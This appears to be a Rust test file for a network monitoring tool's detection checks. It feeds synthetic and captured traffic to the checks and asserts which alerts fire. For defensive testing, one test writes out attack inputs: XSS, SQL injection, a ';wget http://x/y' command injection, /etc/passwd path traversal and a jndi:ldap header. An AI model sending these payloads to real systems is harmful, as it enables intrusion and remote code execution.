//! Built-in flow checks: each fires on traffic that it is for, and is quiet on traffic that it is not
//! for, through the whole of the collector's core. `docs/checks.md` lists them.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;

use shared::model::entity_field::SYSTEM_LEVELS;
use shared::model::{
    ContactKind, HostCounters, InterfaceCounters, MonitorCounters, NetworkCounters, SystemCounters,
};
use shared::script::engine::ScriptEngine;
use shared::script::lists::{List, Lists};
use shared::script::registry::Registry;
use shared::script::source::builtin;
use shared::script::{ScriptKind, ScriptLimits};

use crate::proofs::show::{
    AGENT, PAGE, answer, clock, dns, exchange, ftp, mail, noise, ping, program, resolve,
};
use crate::support::shared_captures;
use crate::support::traffic::Wire;

/// An HTTP exchange on port 80: what is asked, with which headers, and the answer.
fn http(target: &str, headers: &str, answer: &[u8]) -> BTreeSet<String> {
    let mut wire = Wire::new();
    exchange(&mut wire, target, headers, answer);
    types(wire)
}

fn types(wire: Wire) -> BTreeSet<String> {
    wire.alerts().into_iter().map(|alert| alert.alert_type).collect()
}

#[test]
fn ordinary_traffic_is_quiet() {
    let quiet = BTreeSet::new();
    assert_eq!(http("/index.html?page=2&lang=en", AGENT, PAGE), quiet);
    let mut wire = Wire::new();
    resolve(&mut wire, "www.example.org");
    assert_eq!(types(wire), quiet);
    let mut wire = Wire::new();
    ping(&mut wire);
    assert_eq!(types(wire), quiet);
}

#[test]
fn requests_of_attackers() {
    let fires = |target: &str, headers: &str| http(target, &format!("{AGENT}{headers}"), PAGE);
    let one = |alert: &str| BTreeSet::from([alert.to_owned()]);
    assert_eq!(fires("/?q=%3Cscript%3Ealert(1)%3C/script%3E", ""), one("url_xss"));
    assert_eq!(fires("/item?id=1%20UNION%20SELECT%20password", ""), one("url_sql_injection"));
    assert_eq!(fires("/ping?host=;wget%20http://x/y", ""), one("url_command_injection"));
    assert_eq!(fires("/.git/config", ""), one("http_suspicious_url"));
    assert_eq!(fires("/..%2f..%2f..%2fetc/passwd", ""), one("http_suspicious_url"));
    let shell = fires("/", "X-Api: ${jndi:ldap://x/a}\r\n");
    assert_eq!(shell, BTreeSet::from(["http_suspicious_header".to_owned(), "possible_exploit".to_owned()]));
    let agent = |name: &str| http("/", &format!("User-Agent: {name}\r\n"), PAGE);
    assert_eq!(agent("sqlmap/1.8"), one("http_suspicious_user_agent"));
    assert_eq!(agent("Mozilla/5.0 (compatible; Googlebot/2.1)"), one("http_crawler"));
    let basic = http("/", &format!("{AGENT}Authorization: Basic YTpi\r\n"), PAGE);
    assert_eq!(basic, one("clear_text_credentials"));
}

#[test]
fn answers_with_programs_and_old_servers() {
    let fires = |answer: &[u8]| http("/file", AGENT, answer);
    let set = |alerts: &[&str]| alerts.iter().map(|alert| (*alert).to_owned()).collect::<BTreeSet<_>>();
    let body = program();
    let plain = answer("Content-Type: application/x-msdownload\r\n", &body);
    assert_eq!(fires(&plain), set(&["binary_data_transfer", "executable_transfer"]));
    let disguised = answer("Content-Type: image/png\r\n", &body);
    let expected = ["binary_data_transfer", "executable_transfer", "http_suspicious_content"];
    assert_eq!(fires(&disguised), set(&expected));
    let old = answer("Server: Apache/2.2.15\r\nContent-Type: text/html\r\n", b"");
    assert_eq!(fires(&old), set(&["http_obsolete_server"]));
    assert_eq!(fires(b"HTTP/1.1 404 Not Found\r\nContent-Type: text/html\r\n\r\n"), set(&["error_code"]));
}

#[test]
fn names_that_look_odd() {
    let asks = |name: &str| {
        let mut wire = Wire::new();
        resolve(&mut wire, name);
        types(wire)
    };
    assert!(asks("xn--80ak6aa92e.com").contains("punycode_name"));
    assert!(asks("xjw7q9zk2vbq4t.com").contains("dga_domain"));
    assert!(asks("bad name!.example.org").contains("invalid_characters"));
    let no_such = {
        let mut wire = Wire::new();
        let name = "nowhere.example.org";
        wire.udp(53, &[(true, &dns(name, 0x0100)), (false, &dns(name, 0x8183))]);
        types(wire)
    };
    assert!(no_such.contains("error_code"), "{no_such:?}");
}

#[test]
fn what_flows_do() {
    let types_of = |show: &dyn Fn(&mut Wire)| {
        let mut wire = Wire::new();
        show(&mut wire);
        types(wire)
    };
    let silent = types_of(&|wire| wire.tcp(8443, &[], false));
    assert!(silent.contains("tcp_no_data_exchanged"), "{silent:?}");
    let probed = types_of(&|wire| wire.tcp(22, &[], true));
    assert!(probed.contains("probing_attempt"), "{probed:?}");
    let reset = types_of(&|wire| wire.tcp(80, &[(true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")], true));
    assert!(reset.contains("tcp_reset") && !reset.contains("probing_attempt"), "{reset:?}");
    let one_way = types_of(&|wire| wire.udp(9999, &[(true, b"anybody there?")]));
    assert_eq!(one_way, BTreeSet::from(["unidirectional".to_owned()]));
    let odd =
        types_of(&|wire| wire.tcp(8123, &[(true, b"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n")], false));
    assert!(odd.contains("non_standard_port"), "{odd:?}");
    let random = types_of(&|wire| wire.tcp(4711, &[(true, &noise(600)), (false, &noise(600))], false));
    assert!(random.contains("fully_encrypted"), "{random:?}");
    let broadcast = types_of(&|wire| {
        wire.ip(1, true, [255, 255, 255, 255], &[8, 0, 0, 0, 0, 1, 0, 1]);
    });
    assert!(broadcast.contains("broadcast_non_udp"), "{broadcast:?}");
    let covert = types_of(&|wire| {
        wire.ip(1, true, [203, 0, 113, 5], &[&[8, 0, 0, 0, 0, 1, 0, 1][..], &noise(512)].concat());
    });
    assert!(covert.contains("suspicious_entropy"), "{covert:?}");
    let beacon = types_of(&|wire| {
        for _ in 0..40 {
            wire.udp(9999, &[(true, b"ping")]);
            wire.wait(30);
        }
    });
    assert!(beacon.contains("periodic_beacon"), "{beacon:?}");
    let ftp = types_of(&ftp);
    let expected = BTreeSet::from(
        ["clear_text_credentials", "clear_text_protocol", "unsafe_protocol"].map(str::to_owned),
    );
    assert_eq!(ftp, expected);
}

#[test]
fn what_is_on_a_list_and_what_is_not() {
    let seen = |listed: &str| {
        let (mut lists, mut list) = (Lists::default(), List::default());
        list.add(listed);
        lists.insert("blacklist", list);
        let mut wire = Wire::with(&BTreeMap::new(), lists);
        resolve(&mut wire, "www.evil.example.org");
        let alerts = wire.alerts().into_iter().filter(|alert| alert.script == "blacklisted");
        alerts.map(|alert| (alert.alert_type, alert.message)).collect::<Vec<_>>()
    };
    let one = |message: &str| vec![("blacklisted".to_owned(), message.to_owned())];
    assert_eq!(seen("203.0.113.0/24\nexample.org"), one("203.0.113.5 is on the list blacklist"));
    assert_eq!(seen("192.168.1.10"), one("192.168.1.10 is on the list blacklist"));
    let name = "192.168.1.10 asked for www.evil.example.org, which is on the list blacklist";
    assert_eq!(seen("evil.example.org"), one(name));
    assert_eq!(seen("vil.example.org\n203.0.113.6"), []);

    let servers = |servers: &str| {
        let config = serde_json::json!({ "servers": [servers] });
        let checks = ["unexpected_dns", "unexpected_ntp", "unexpected_smtp"];
        let configs = checks.map(|check| (check, config.clone())).into();
        let mut wire = Wire::with(&configs, Lists::default());
        resolve(&mut wire, "www.example.org");
        clock(&mut wire, [203, 0, 113, 5], 123);
        mail(&mut wire);
        types(wire)
    };
    let all = ["unexpected_dns", "unexpected_ntp", "unexpected_smtp"].map(str::to_owned);
    assert_eq!(servers("198.51.100.0/24"), BTreeSet::from(all));
    assert_eq!(servers("203.0.113.5"), BTreeSet::new());
}

#[test]
fn scores_parts_and_techniques_come_from_the_scripts() {
    let mut wire = Wire::new();
    let request = format!("GET /.git/config HTTP/1.1\r\nHost: www.example.org\r\n{AGENT}\r\n");
    wire.tcp(80, &[(true, request.as_bytes()), (false, PAGE)], false);
    let alerts = wire.alerts();
    let [alert] = &alerts[..] else { panic!("{alerts:?}") };
    assert_eq!((alert.score, alert.severity.name()), (100, "error"));
    assert_eq!(alert.mitre, ["T1189"]);
    let parts = [&alert.client, &alert.server].map(|party| party.as_ref().unwrap());
    assert_eq!(parts.map(|party| (party.is_attacker, party.is_victim)), [(true, false), (false, true)]);
    assert!(alert.message.contains("/.git/config"), "{}", alert.message);
}

/// Checks that real captures make fire: the capture, the check, how often.
const IN_CAPTURES: &[(&str, &str, usize)] = &[
    ("anydesk.pcapng", "tls_certificate_self_signed", 2),
    ("anydesk.pcapng", "tls_uncommon_alpn", 1),
    ("badpackets.pcap", "dns_fragmented", 88),
    ("badpackets.pcap", "dns_large_packet", 34),
    ("dns-tunnel-iodine.pcap", "dns_suspicious_traffic", 1),
    ("dtls_certificate.pcapng", "tls_certificate_expired", 1),
    ("google_ssl.pcap", "tls_weak_cipher", 1),
    ("google_ssl.pcap", "obsolete_tls", 1),
    ("google_ssl.pcap", "tls_missing_sni", 1),
    ("ipp.pcap", "zero_tcp_window", 1),
    ("ipp.pcap", "numeric_host", 3),
    ("smbv1.pcap", "smb_insecure_version", 1),
    ("ssh.pcap", "ssh_obsolete_client", 1),
    ("ssh.pcap", "ssh_obsolete_server", 2),
    ("tls-appdata.pcap", "tcp_issues", 1),
    ("tls_certificate_too_long.pcap", "tls_certificate_too_long", 8),
    ("tor.pcap", "tls_certificate_mismatch", 7),
    ("tor.pcap", "tls_certificate_expires_soon", 3),
    ("tor.pcap", "tls_not_carrying_https", 7),
    ("xss.pcap", "url_xss", 1),
    // And quiet ones: a firefox and a curl that do nothing wrong but be reset in the end.
    ("443-curl.pcap", "", 1),
    ("443-firefox.pcap", "", 1),
];

#[test]
fn checks_fire_on_real_captures() {
    let Some(folder) = shared_captures() else { return };
    let captures: BTreeSet<&str> = IN_CAPTURES.iter().map(|(capture, ..)| *capture).collect();
    for capture in captures {
        let mut wire = Wire::new();
        wire.capture(&folder.join(capture));
        let mut counts: BTreeMap<String, usize> = BTreeMap::new();
        for alert in wire.alerts() {
            *counts.entry(alert.alert_type).or_default() += 1;
        }
        for (_, check, wanted) in IN_CAPTURES.iter().filter(|(of, ..)| *of == capture) {
            if check.is_empty() {
                assert_eq!(counts, BTreeMap::from([("tcp_reset".to_owned(), *wanted)]), "{capture}");
            } else {
                assert_eq!(counts.get(*check), Some(wanted), "{check} in {capture}: {counts:?}");
            }
        }
    }
}

/// A generated part of a page is right, or is written again when FLOWHOOK_BLESS is set.
fn holds(page: &str, mark: &str, generated: &str) {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("docs").join(page);
    let text = std::fs::read_to_string(&path).unwrap();
    let (before, rest) = text.split_once(mark).unwrap();
    // What people wrote may follow.
    let after = rest.find("<!-- end -->").map_or("", |at| &rest[at..]);
    let right = format!("{before}{mark}{}\n{after}", generated.trim_end());
    if std::env::var_os("FLOWHOOK_BLESS").is_some() {
        std::fs::write(&path, right).unwrap();
    } else {
        assert!(text == right, "docs/{page} is not what it lists: FLOWHOOK_BLESS=1 writes it");
    }
}

/// `docs/counters.md` is written from the tables of counters.
#[test]
fn the_page_of_counters_is_the_list_of_them() {
    let mut page = String::new();
    let mut table = |title: &str, rows: Vec<(&str, &str)>| {
        let rows: String =
            rows.iter().map(|(name, doc)| format!("| `{name}` | {} |\n", doc.trim())).collect();
        page.push_str(&format!("## {title}\n\n| counter | what it counts |\n|---|---|\n{rows}\n"));
    };
    let zip = |names: &'static [&'static str], docs: &'static [&'static str]| {
        names.iter().copied().zip(docs.iter().copied()).collect::<Vec<_>>()
    };
    let sums = [("bytes", "All bytes."), ("packets", "All packets.")];
    let with_sums = |rows: Vec<_>| rows.into_iter().chain(sums).collect();
    table("Hosts", with_sums(zip(HostCounters::NAMES, HostCounters::DOCS)));
    let contacts = ContactKind::ALL.map(|kind| (kind.counter(), kind.doc()));
    table("Hosts, in `stats` only: local hosts, within the running hour", contacts.into());
    table("Networks", with_sums(zip(NetworkCounters::NAMES, NetworkCounters::DOCS)));
    table("Interfaces", zip(InterfaceCounters::NAMES, InterfaceCounters::DOCS));
    let now =
        [("live_flows", "Flows alive."), ("hosts", "Active hosts."), ("local_hosts", "Active local hosts.")];
    table("Interfaces, in `stats` only: as it is now", now.into());
    table("The system, as seen from an interface", zip(SystemCounters::NAMES, SystemCounters::DOCS));
    table("The system, in `stats` only: as it is now", SYSTEM_LEVELS.into());
    table("Monitored hosts", zip(MonitorCounters::NAMES, MonitorCounters::DOCS));
    let last = [
        ("up", "1 when a probe of the last round was answered, else 0."),
        ("last_rtt_us", "Mean round-trip time of the last round in microseconds, 0 without an answer."),
        ("last_loss_percent", "Per cent of the probes of the last round lost, rounded down."),
        ("days_left", "Days until the certificate expires, 0 when it has, or when there is none."),
    ];
    table("Monitored hosts, in `stats` only: the last round", last.into());
    holds("counters.md", "<!-- counters -->\n", &page);
}

#[test]
fn every_check_is_shown_to_fire_and_to_stay_quiet() {
    let names: BTreeSet<String> = builtin().into_iter().map(|source| source.name).collect();
    let proved: BTreeSet<String> = crate::proofs::all().map(|(check, _)| check.to_owned()).collect();
    assert_eq!(names, proved);
    assert_eq!(crate::proofs::all().count(), proved.len(), "one is proved twice");
}

/// `docs/checks.md` is written from the scripts; set FLOWHOOK_BLESS to write it again.
#[test]
fn the_page_of_checks_is_the_list_of_them() {
    let engine = ScriptEngine::new(ScriptLimits::default());
    let (registry, errors) = Registry::load(&engine, builtin(), &BTreeMap::new());
    assert!(errors.is_empty(), "{errors:?}");
    let proofs: BTreeMap<&str, &str> = crate::proofs::all().collect();
    let mut tables = String::new();
    for kind in ScriptKind::ALL {
        let mut rows: Vec<String> = Vec::new();
        for entry in registry.scripts().iter().filter(|entry| entry.script.meta().kind == kind) {
            let meta = entry.script.meta();
            let text = builtin().into_iter().find(|source| source.name == meta.key).unwrap().text;
            let detects = text.lines().next().unwrap().trim_start_matches("// ").to_owned();
            let hooks: Vec<_> = meta.hooks.iter().map(|hook| hook.name()).collect();
            let (severity, score) = meta.weight(&shared::script::AlertRequest::default());
            let on = if meta.default_enabled { "on" } else { "off" };
            let mitre = meta.mitre.join(", ");
            let needs = meta.needs_lists.iter().map(|list| format!(", with list `{list}`"));
            let config = match meta.default_value.as_object() {
                Some(config) if !config.is_empty() => format!(", `{}`", meta.default_value),
                _ => String::new(),
            };
            let module = proofs.get(meta.key.as_str()).copied().unwrap_or_default();
            rows.push(format!(
                "| `{}` | {detects} | {} | {} | {severity}, {score} | {on}{}{config} | {mitre} | `{module}` |\n",
                meta.key,
                hooks.join(", "),
                meta.category,
                needs.collect::<String>(),
            ));
        }
        if !rows.is_empty() {
            rows.sort();
            tables.push_str(&format!(
                "## Of kind {}\n\n| check | what it detects | hooks | category | severity, score | default | ATT&CK | proved in |\n|---|---|---|---|---|---|---|---|\n{}\n",
                kind.name(),
                rows.concat()
            ));
        }
    }
    holds("checks.md", "<!-- checks -->\n", &tables);
}
